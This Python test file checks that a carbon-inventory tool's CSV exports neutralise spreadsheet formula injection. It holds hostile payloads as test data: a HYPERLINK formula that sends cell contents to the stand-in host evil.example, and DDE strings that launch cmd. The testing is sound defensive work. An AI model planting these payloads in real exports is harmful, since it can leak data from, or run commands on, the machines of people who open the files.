"""Spreadsheet formula injection (OWASP "CSV injection"): every CSV and XLSX the software writes passes its cells
through one neutraliser (``countyzero.core.io.neutralise``) — text that starts like a formula gets a leading quote,
numbers stay numbers. A hostile name is carried from an input file into each export and must come out inert.

The challenge's CSV/XLSX exports are checked the same way in tests/challenge/test_challenge.py
(``test_exports_neutralise_a_hostile_title``); they use the same neutraliser.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from countyzero.core.io import FORMULA_STARTS, csv_text, neutralise
from tests.security.hostile_files import EXAMPLES

EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
PAYLOADS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def assert_inert(text: str, payload: str) -> None:
    """The payload is present, quoted (``'`` first), and no cell of the CSV starts like a formula."""
    rows = cells(text)
    flat = [cell for row in rows for cell in row]
    assert "'" + payload in flat, f"{payload!r} not written, or not neutralised"
    for cell in flat:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only a number may start with + or - (e.g. -5.2 written from a float)


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.text(max_size=30), st.sampled_from(PAYLOADS), st.integers(), st.floats(), st.booleans(),
                 st.none()))
def test_neutralise_quotes_text_that_starts_like_a_formula_and_nothing_else(value: object) -> None:
    result = neutralise(value)
    if isinstance(value, str) and value[:1] in FORMULA_STARTS and value:
        assert result == "'" + value
    else:
        assert result is value


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.text(st.characters(exclude_characters="\r\n"), max_size=12) | st.sampled_from(PAYLOADS),
                          st.floats(min_value=-1e300, max_value=1e300), st.integers()), max_size=8),
       st.sampled_from([None, "{:.10g}"]))
def test_csv_text_neutralises_text_and_keeps_numbers(rows: list[tuple[str, float, int]], fmt: str | None) -> None:
    written = cells(csv_text(["name", "value", "count"], rows, float_format=fmt))
    assert written[0] == ["name", "value", "count"]
    for (name, value, count), row in zip(rows, written[1:], strict=True):
        assert row[0] == (("'" + name) if name.startswith(FORMULA_STARTS) else name)
        assert float(row[1]) == (pytest.approx(value, rel=1e-9) if fmt else value)
        assert int(row[2]) == count


def test_negative_float_stays_a_number_but_negative_text_is_neutralised() -> None:
    written = cells(csv_text(["a", "b"], [[-5.2, "-5.2"], ["-cmd|' /C calc'!A0", -1]]))
    assert written[1] == ["-5.2", "'-5.2"] and written[2] == ["'-cmd|' /C calc'!A0", "-1"]


def test_carriage_return_inside_text_cannot_start_a_hidden_row() -> None:
    # Spreadsheets take a lone CR for a line break: unquoted, "ok\r=cmd" would become a new row starting "=cmd".
    text = csv_text(["name", "n"], [["ok\r" + EVIL, 1], ["a\nb", 2]])
    assert cells(text) == [["name", "n"], ["ok\r" + EVIL, "1"], ["a\nb", "2"]]
    assert text.count("\n") == 4 and "\r\n" not in text  # one line end per row (and the quoted \n)


runner = CliRunner()


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_inventory_csv_export_neutralises_a_hostile_activity_id(tmp_path: Path, payload: str) -> None:
    from countyzero.cli import app

    source = tmp_path / "inventory.yaml"
    source.write_text("county: Test\nyear: 2022\nactivities:\n"
                      f"  - {{id: {payload!r}, gpc: I.1.1, fuel: natural_gas, quantity: 1, unit: TJ}}\n",
                      encoding="utf-8")
    result = runner.invoke(app, ["inventory", "compute", str(source), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_inert(result.stdout, payload)


def test_factor_csv_export_neutralises_a_hostile_factor_name(tmp_path: Path) -> None:
    from countyzero.cli import app
    from countyzero.factors.library import COLUMNS

    shipped = sorted((Path(__file__).resolve().parents[2] / "src" / "countyzero" / "factors" / "data").glob("*.csv"))
    header, first = next(iter(cells(p.read_text(encoding="utf-8")) for p in shipped if p.name.startswith("ipcc")))[:2]
    row = dict(zip(header, first, strict=True))
    row.update({"id": "evil.factor", "name_en": EVIL, "source": "@SUM(1+1)"})
    extra = tmp_path / "evil.csv"
    raw = io.StringIO()
    csv.writer(raw, lineterminator="\n").writerows([header, [row[k] for k in header]])
    extra.write_text(raw.getvalue(), encoding="utf-8")  # the hostile file as an attacker writes it
    result = runner.invoke(app, ["factors", "list", "--factors", str(extra), "--parameter", row["parameter"],
                                 "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert "name_en" in COLUMNS
    assert_inert(result.stdout, EVIL)
    assert_inert(result.stdout, "@SUM(1+1)")


def test_iamc_export_neutralises_hostile_model_and_region(tmp_path: Path) -> None:
    from countyzero.pathways.engine import run_roadmap
    from countyzero.pathways.iamc import to_iamc_csv

    county = tmp_path / "county"
    shutil.copytree(EXAMPLES, county, ignore=shutil.ignore_patterns("buildings", "challenge", "credits", "finance",
                                                                    "farms", "community", "lifestyle"))
    roadmap = county / "roadmap.yaml"
    text = roadmap.read_text(encoding="utf-8")
    text = text.replace("model: CountyZero", f"model: {EVIL!r}").replace("region: CN-HI-469029", "region: '@x'")
    roadmap.write_text(text, encoding="utf-8")
    written = to_iamc_csv(run_roadmap(county, draws=0))
    assert_inert(written, EVIL)
    assert_inert(written, "@x")
    numbers = [cell for row in cells(written)[1:] for cell in row[5:]]
    assert any(cell.startswith("-") for cell in numbers)  # net removals stay negative numbers
    assert all(float(cell) == float(cell) for cell in numbers if cell)


def test_portfolio_csv_export_neutralises_a_hostile_building_id() -> None:
    from countyzero.buildings.portfolio import assess_portfolio

    table = pa.table({"building_id": [EVIL], "gross_floor_area_m2": [100.0],
                      "factor_id": ["gbt51366.d.concrete_c30"], "quantity": [10.0], "unit": ["m3"],
                      "density_kg_m3": [2400.0]})
    assert_inert(assess_portfolio(table, study_period=60).to_csv(), EVIL)
